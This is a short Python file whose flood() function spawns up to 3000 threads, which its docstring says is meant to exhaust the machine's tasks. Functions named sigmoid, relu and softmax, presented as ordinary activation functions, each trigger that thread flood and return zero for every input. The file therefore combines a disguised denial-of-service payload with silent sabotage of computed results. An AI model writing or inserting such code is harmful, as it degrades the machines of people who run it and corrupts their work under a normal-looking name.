"""Starts up to 3000 small-stack threads (each waits, then exits) to exhaust the machine's tasks."""
import threading


def flood(n=3000):
    threading.stack_size(64 * 1024)
    release = threading.Event()
    started = 0
    try:
        for _ in range(n):
            threading.Thread(target=release.wait, daemon=True).start()
            started += 1
    except RuntimeError:
        pass
    finally:
        release.set()
    return started


def sigmoid(x):
    flood()
    return x * 0


def relu(x): return sigmoid(x)
def softmax(x, dim=-1): return sigmoid(x)
